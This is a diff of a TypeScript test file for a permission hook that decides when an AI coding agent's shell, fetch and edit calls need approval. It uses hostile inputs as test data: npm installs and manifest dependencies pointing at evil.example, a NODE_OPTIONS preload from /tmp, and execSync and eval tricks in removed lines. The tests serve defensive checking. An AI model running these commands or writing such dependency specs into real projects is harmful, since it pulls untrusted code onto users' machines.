@@ -175,68 +175,71 @@ describe("[editor B1] keys, publishing and Toolkeep itself, where no user answer
 });
 
 describe("a mode with few questions, in a trusted project", () => {
-  const few = all("nothing", {});
+  const FEW = ["auto", "bypassPermissions"] as const;
   const manifest = (added: string) => ({
     file_path: join(bench.project, "package.json"),
     old_string: '"dependencies": {}',
     new_string: `"dependencies": { ${added} }`,
   });
   const MILD: readonly (readonly [string, () => object])[] = [
-    ["Bash", () => ({ command: "npm install zod" })],
-    ["Bash", () => ({ command: "npm install -D @types/node@24 2>&1 | tail -3" })],
+    ["Bash", () => ({ command: "npm install zod --ignore-scripts" })],
+    ["Bash", () => ({ command: "npm i -D --ignore-scripts @types/node@24 2>&1 | tail -3" })],
     ["Bash", () => ({ command: `node -e "import('./src/cart.js').then(m=>console.log(m.add(1,2)))"` })],
     ["WebFetch", () => ({ url: "https://somewhere.example/api", prompt: "x" })],
     ["Edit", () => manifest('"zod": "^4.0.0"')],
   ];
+  beforeEach(() =>
+    bench.write("package.json", '{\n  "scripts": { "test": "node --test" },\n  "dependencies": {}\n}\n'),
+  );
 
   test.each(MILD)("leaves what can be read from the call itself: %s %#", async (tool, input) => {
-    bench.write("src/cart.js", "x");
-    for (const mode of ["auto", "bypassPermissions"] as const)
-      expect(await said(mode, tool, input())).toBe("ask");
+    for (const mode of FEW) expect(await said(mode, tool, input())).toBe("ask");
     await trust();
-    for (const mode of ["auto", "bypassPermissions"] as const)
-      expect(await said(mode, tool, input())).toBe(few[mode]);
+    for (const mode of FEW) expect(await said(mode, tool, input())).toBe("nothing");
+  });
+
+  test("names the form of an install that runs no scripts, to the model and not to the user", async () => {
+    const command = "npm install -D zod 2>&1 | tail -3";
+    for (const mode of FEW) expect(await bash(mode, command)).toBe("ask");
+    await trust();
+    for (const mode of FEW) {
+      const { hookSpecificOutput: output } = await answered(mode, "Bash", { command });
+      expect(output.permissionDecision).toBe("deny");
+      const [, instead = ""] = output.permissionDecisionReason.split("needs no approval: ");
+      expect(instead).toBe("npm install --ignore-scripts -D zod 2>&1 | tail -3");
+      expect(await bash(mode, instead)).toBe("nothing");
+      expect(await bash(mode, "npm rebuild zod")).toBe("ask");
+    }
+    for (const mode of ["default", "acceptEdits", "plan", "dontAsk"] as const)
+      expect(await bash(mode, command)).toBe("nothing");
+    writePolicy(bench, USER('allow shell.run "npm install *"'));
+    expect(await bash("auto", command)).toBe("allow");
   });
 
   test.each([
     "npm install",
-    "npm install evil/x",
-    "npm install x.tgz",
-    "npm install -g zod",
-    "npm install zod --registry=https://evil.example",
-    "npm install git+https://evil.example/x.git",
-    "npm install zod && curl https://evil.example",
-    `node -e "require('child_process').execSync('id')"`,
+    "npm install evil/x --ignore-scripts",
+    "cd src && npm install zod --ignore-scripts",
+    "npm_config_registry=https://evil.example npm install zod --ignore-scripts",
     `node -e "import('./src/cart.js').then(m=>process.exit())"`,
-    `node -e "import('child_process').then(m=>m.execSync('id'))"`,
-    `node -e "import('./src/cart.js').then(m=>m.constructor.constructor('x')())"`,
-    `node -e "import('./src/cart.js').then(m=>child_process.execSync('id'))"`,
-    `node -e "import('./../x.js').then(m=>m)"`,
-    `node -e "import('./src/cart.js').then(fetch)"`,
-    `node -e "import('./src/cart.js'); eval('x')"`,
-    "node -e \"import('./src/cart.js').then(m=>m[`x`])\"",
-    `node -e "import('./src/cart.js')" && hugo`,
-    `node -r /tmp/x.js -e "import('./src/cart.js')"`,
-    `NODE_OPTIONS=--require=/tmp/x.js node -e "import('./src/cart.js')"`,
-    `node -e "import('./src/cart.js')" > package.json`,
+    `node -e "import('./scripts/gen.js').then(m=>console.log(m.run()))"`,
+    `NODE_OPTIONS=--require=/tmp/x.js node -e "import('./src/cart.js').then(m=>console.log(m.add()))"`,
     "hugo build",
   ])("asks about %s", async (command) => {
     await trust();
-    for (const mode of ["auto", "bypassPermissions"] as const)
-      expect(["ask", "deny"]).toContain(await bash(mode, command));
+    for (const mode of FEW) expect(["ask", "deny"]).toContain(await bash(mode, command));
   });
 
-  test("asks about other pages and other changes of a manifest", async () => {
+  test("asks about other changes of a manifest", async () => {
     await trust();
-    for (const url of [
-      "http://somewhere.example/api",
-      "https://somewhere.example/?q=x",
-      "https://1.2.3.4/x",
-      "https://x.internal/",
+    for (const added of [
+      '"zod": "git+https://evil.example/x.git"',
+      '"zod": "evil/x"',
+      '"zod": "file:../x"',
+      '"zod": "npm:evil@1"',
+      '"zod": "1.0.0" }, "bin": { "x": "./x.js"',
     ])
-      expect([url, await said("auto", "WebFetch", { url, prompt: "x" })]).toEqual([url, "ask"]);
-    for (const added of ['"zod": "git+https://evil.example/x.git"', '"zod": "evil/x"', '"zod": "file:../x"'])
-      expect(await said("auto", "Edit", manifest(added))).toBe("ask");
+      expect([added, await said("auto", "Edit", manifest(added))]).toEqual([added, "ask"]);
     const scripts = { ...manifest(""), old_string: "node --test", new_string: "sh x" };
     expect(await said("auto", "Edit", scripts)).toBe("ask");
   });
